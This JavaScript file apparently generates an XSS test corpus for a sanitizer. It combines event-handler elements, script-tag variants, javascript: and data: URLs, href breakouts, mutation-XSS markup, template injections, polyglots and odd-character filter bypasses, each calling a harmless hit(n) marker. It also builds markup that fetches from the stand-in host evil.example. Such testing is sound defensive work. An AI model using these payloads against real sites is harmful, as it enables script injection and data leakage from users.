// Texts that become a running script, or a request to somebody else, wherever they are taken for markup: known families,
// combined systematically. Each calls `hit(n)` with its own number.

/** What runs, and how it can be written. */
const CODES = [
  (n) => `hit(${n})`,
  (n) => `top['hit'](${n})`,
  (n) => `window.hit?.call(this,${n})`,
];
const decimal = (text) => [...text].map((c) => `&#${c.codePointAt(0)};`).join('');
const hexadecimal = (text) => [...text].map((c) => `&#x${c.codePointAt(0).toString(16)};`).join('');
const mixed = (text) => [...text].map((c, i) => (i % 2 ? c.toUpperCase() : c.toLowerCase())).join('');

/** Elements that run a handler by themselves: what stands before it, its name, what stands after. */
const HANDLERS = [
  ['img src=x', 'onerror', ''], ['img src=data:,', 'onerror', ''], ['image src=x', 'onerror', ''],
  ['img src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload', ''], ['svg', 'onload', ''], ['body', 'onload', ''],
  ['iframe', 'onload', ''], ['iframe srcdoc=x', 'onload', ''], ['style', 'onload', '</style>'],
  ['video src=x', 'onerror', ''], ['audio src=x', 'onerror', ''], ['video', 'onloadstart', '<source src=x>'],
  ['input autofocus', 'onfocus', ''], ['select autofocus', 'onfocus', ''], ['textarea autofocus', 'onfocus', ''],
  ['button autofocus', 'onfocus', ''], ['details open', 'ontoggle', ''], ['marquee', 'onstart', ''],
  ['object data=x', 'onerror', ''], ['embed src=data:text/html,x', 'onload', ''], ['script src=x', 'onerror', '</script>'],
  ['link rel=stylesheet href=data:text/css,', 'onload', ''], ['svg><animate attributeName=x dur=1s', 'onbegin', ''],
  ['svg><set attributeName=x dur=1s', 'onbegin', ''], ['svg><image href=x', 'onerror', ''],
  ['picture><img srcset=x', 'onerror', ''], ['div tabindex=1 autofocus', 'onfocus', ''],
  ['style>@keyframes x{}</style><p style=animation-name:x', 'onanimationstart', ''],
];
/** Ways of writing such an element. */
const WRITINGS = [
  ([tag, on, rest], js) => `<${tag} ${on}=${js}>${rest}`,
  ([tag, on, rest], js) => `<${tag} ${on}="${js}">${rest}`,
  ([tag, on, rest], js) => `<${tag} ${on}='${js}' x='>${rest}`.replace("x='", "x=''"),
  ([tag, on, rest], js) => `<${mixed(tag.split(/[ >]/)[0])}${tag.slice(tag.split(/[ >]/)[0].length)} ${mixed(on)}=${js}>${rest}`,
  ([tag, on, rest], js) => `<${tag}\n${on}\n=\n${js}\n>${rest}`,
  ([tag, on, rest], js) => `<${tag}\t\f${on}=${js}\t>${rest}`,
  ([tag, on, rest], js) => `<${tag} / ${on}=${decimal(js)} />${rest}`,
  ([tag, on, rest], js) => `<${tag} ${on}=${hexadecimal(js)}>${rest}`,
  ([tag, on, rest], js) => `<<${tag} ${on}=${js}//>${rest}`,
  ([tag, on, rest], js) => `<${tag} ${on}=${js} <!-- --!>${rest}>`,
  ([tag, on, rest], js) => `<x/><${tag} a=b ${on}="${js};void 0">${rest}</x>`,
];
/** What would end the place where a text stands. */
const BREAKERS = [
  '">', "'>", '`>', '-->', ']]>', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', '</p></a>', '}}', '*/',
  '\\">', '</xmp></plaintext>', '</template></select>',
];
const SCRIPTS = [
  (js) => `<script>${js}</script>`, (js) => `<SCRIPT>${js}</SCRIPT>`, (js) => `<ScRiPt >${js}</sCrIpT >`,
  (js) => `<script type=module>${js}</script>`, (js) => `<script\n>${js}</script\n>`, (js) => `<script/x>${js}</script/x>`,
  (js) => `<script src="data:text/javascript,${js}"></script>`, (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><script href="data:,${js}"/></svg>`, (js) => `<svg><script>${decimal(js)}</script></svg>`,
  (js) => `<script>//\u2028${js}</script>`, (js) => `<script><!--\n${js}//--></script>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
  (js) => `<iframe srcdoc="${decimal(`<script>parent.${js}</script>`)}"></iframe>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`, (js) => `<template shadowrootmode=open><script>${js}</script></template>`,
  (js) => `<math><mi><script>${js}</script></mi></math>`, (js) => `<script defer>${js}</script>`,
];
const SCHEMES = [
  'javascript:', 'JaVaScRiPt:', ' javascript:', '\u0001javascript:', 'java\tscript:', 'java\nscript:', 'javascript\t:',
  '&#106;avascript:', 'javascript&colon;', 'javascript://%0a', 'view-source:javascript:', 'vbscript:', 'livescript:',
];
const LINKS = [
  (url) => `<a href="${url}">x</a>`, (url) => `<iframe src="${url}"></iframe>`, (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<object data="${url}"></object>`, (url) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url) => `<embed src="${url}">`, (url) => `<math href="${url}">x</math>`, (url) => `[x](${url})`, (url) => `![x](${url})`,
  (url) => `<${url}>`, (url) => url, (url) => `[x]: ${url}`, (url) => `https://example.org/ ${url} https://example.org/`,
];
const DATA = [
  (js) => `data:text/html,<script>${js}</script>`, (js) => `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  (js) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`, (js) => `blob:https://evil.example/${js}`,
  (js) => `filesystem:https://evil.example/${js}`,
];
/** Addresses that end up in an href and try to get out of it. */
const ADDRESSES = [
  (js) => `https://example.org/"onmouseover="${js}`, (js) => `https://example.org/'onfocus='${js}'autofocus='`,
  (js) => `https://example.org/"><img src=x onerror=${js}>`, (js) => `https://example.org/?q=<script>${js}</script>`,
  (js) => `https://example.org/#</a><svg onload=${js}>`, (js) => `http://javascript:${js}@example.org/`,
  (js) => `https://example.org\\@evil.example/${js}`, (js) => `https://example.org/\u202e${js}`,
  (js) => `HTTPS://EXAMPLE.ORG/${js}`, (js) => `https://[::1]/"style="animation-name:x"onanimationstart="${js}`,
];
/** Markup that changes when it is parsed a second time. */
const MUTATIONS = [
  (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  (js) => `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
  (js) => `<listing>&lt;img src=1 onerror=${js}&gt;</listing>`, (js) => `<xmp></xmp><img src=x onerror=${js}>`,
  (js) => `<svg><style>&lt;img src=x onerror=${js}&gt;</style></svg>`, (js) => `<select><template><img src=x onerror=${js}>`,
  (js) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`, (js) => `<!--><img src=x onerror=${js}>-->`,
  (js) => `<![CDATA[><img src=x onerror=${js}>]]>`, (js) => `<?xml ?><img src=x onerror=${js}>`,
  (js) => `<title><a title="</title><img src=x onerror=${js}>">`, (js) => `<textarea><a title="</textarea><svg onload=${js}>">`,
  (js) => `<math><annotation-xml encoding="text/html"><svg onload=${js}></annotation-xml></math>`,
];
const TEMPLATES = [
  (js) => `{{constructor.constructor('${js}')()}}`, (js) => `\${${js}}`, (js) => `<%= ${js} %>`, (js) => `#{${js}}`,
  (js) => `[[${js}]]`, (js) => `{{=${js}}}`, (js) => `{%raw%}<svg onload=${js}>{%endraw%}`, (js) => `<x ng-app ng-init="${js}">`,
  (js) => `<x v-html="'<svg onload=${js}>'">`, (js) => `<x :[${js}]>`, (js) => `{"dangerouslySetInnerHTML":{"__html":"<svg onload=${js}>"}}`,
  (js) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${js}"}}`, (js) => `:"><svg onload=${js}>:`,
  (js) => `\\u003cscript\\u003e${js}\\u003c/script\\u003e`, (js) => `%3Cscript%3E${js}%3C/script%3E`,
  (js) => `&lt;script&gt;${js}&lt;/script&gt;`, (js) => `__proto__[innerHTML]=<svg onload=${js}>`, (js) => `';${js};//`, (js) => `";${js};//`,
  (js) => `*/${js}/*`, (js) => `**<svg onload=${js}>**`, (js) => `> <svg onload=${js}>`, (js) => `\`<svg onload=${js}>\``,
  (js) => `\n\n---\n<svg onload=${js}>\n---`,
];
/** What asks somebody else, without any script. */
const REQUESTS = [
  (n) => `<img src=//evil.example/${n}>`, (n) => `<link rel=stylesheet href=//evil.example/${n}>`,
  (n) => `<style>@import '//evil.example/${n}'</style>`, (n) => `<p style="background:url(//evil.example/${n})">`,
  (n) => `<meta http-equiv=refresh content="0;url=//evil.example/${n}">`, (n) => `<base href=//evil.example/${n}>`,
  (n) => `<video poster=//evil.example/${n}>`, (n) => `<iframe src=//evil.example/${n}>`, (n) => `<object data=//evil.example/${n}>`,
  (n) => `<svg><use href="//evil.example/${n}#x"/></svg>`, (n) => `<svg><feImage href="//evil.example/${n}"/></svg>`,
  (n) => `<link rel=prefetch href=//evil.example/${n}>`, (n) => `<link rel=dns-prefetch href=//evil.example/${n}>`,
  (n) => `<audio src=//evil.example/${n} autoplay>`, (n) => `<input type=image src=//evil.example/${n}>`,
  (n) => `<table background=//evil.example/${n}>`, (n) => `![x](http://evil.example/${n}.png)`, (n) => `http://evil.example/${n}.png`,
  (n) => `<a href=//evil.example/${n} ping=//evil.example/ping>x</a>`, (n) => `<style>@font-face{font-family:x;src:url(//evil.example/${n})}</style><p style=font-family:x>x`,
];
/** Characters that filters and eyes stumble over. */
const ODD = [
  '\0', '\u0001', '\u000b', '\u007f', '\u0085', '\u00a0', '\u00ad', '\u0300', '\u180e', '\u200b', '\u200d', '\u202e', '\u2028', '\u2066', '\ufeff',
  '\ufffd', '\uff1c', '\u{e0041}', '\u{1f600}', '\ud7ff',
];
const POLYGLOTS = [
  (js) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js}//>`,
  (js) => `'">><marquee><img src=x onerror=${js}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${js}>`,
  (js) => `" onclick=${js}//<button ' onclick=${js}//> */ ${js}//`, (js) => `-->'"/></sCript><svG x=">" onload=(co\\u006efirm)\`\`><img src=x onerror=${js}>`,
];

/** All of them. The number of each is its place in the list. */
export function payloads() {
  const makers = [];
  const add = (make) => makers.push(make);
  for (const [h, handler] of HANDLERS.entries()) {
    for (const [w, writing] of WRITINGS.entries()) add((n) => writing(handler, CODES[(h + w) % 3](n)));
  }
  for (const breaker of BREAKERS) {
    for (const at of [0, 4, 5, 6, 9, 16, 20]) add((n) => breaker + WRITINGS[0](HANDLERS[at], CODES[0](n)));
  }
  for (const script of SCRIPTS) for (const js of CODES) add((n) => script(js(n)));
  for (const breaker of BREAKERS.slice(0, 11)) add((n) => `${breaker}<script>hit(${n})</script>`);
  for (const scheme of SCHEMES) for (const link of LINKS) add((n) => link(`${scheme}hit(${n})`));
  for (const data of DATA) for (const link of LINKS) add((n) => link(data(`top.hit(${n})`)));
  for (const family of [ADDRESSES, MUTATIONS, TEMPLATES, POLYGLOTS]) {
    for (const make of family) for (const js of CODES) add((n) => make(js(n)));
  }
  for (const make of REQUESTS) add(make);
  for (const odd of ODD) {
    add((n) => `${odd}<img src=x onerror=hit(${n})>`);
    add((n) => `<img${odd} src=x onerror=hit(${n})>`);
    add((n) => `<img src=x ${odd}onerror=hit(${n})>`);
    add((n) => `<img src=x onerror=${odd}hit(${n})>`);
    add((n) => `<${odd}script>hit(${n})</script>`);
    add((n) => `<svg onload=hit(${n})>${odd.repeat(40)}`);
    add((n) => `[x](java${odd}script:hit(${n}))`);
    add((n) => `https://example.org/${odd}"onclick="hit(${n})`);
  }
  for (const long of [200, 1_000, 8_000, 16_000]) {
    add((n) => `${'a'.repeat(long)}<img src=x onerror=hit(${n})>`);
    add((n) => `<img src=x title="${'"'.repeat(long % 2)}${'b'.repeat(long)}" onerror=hit(${n})>`);
    add((n) => `${'<b>'.repeat(long / 10)}<svg onload=hit(${n})>`);
  }
  return makers.map((make, n) => make(n));
}
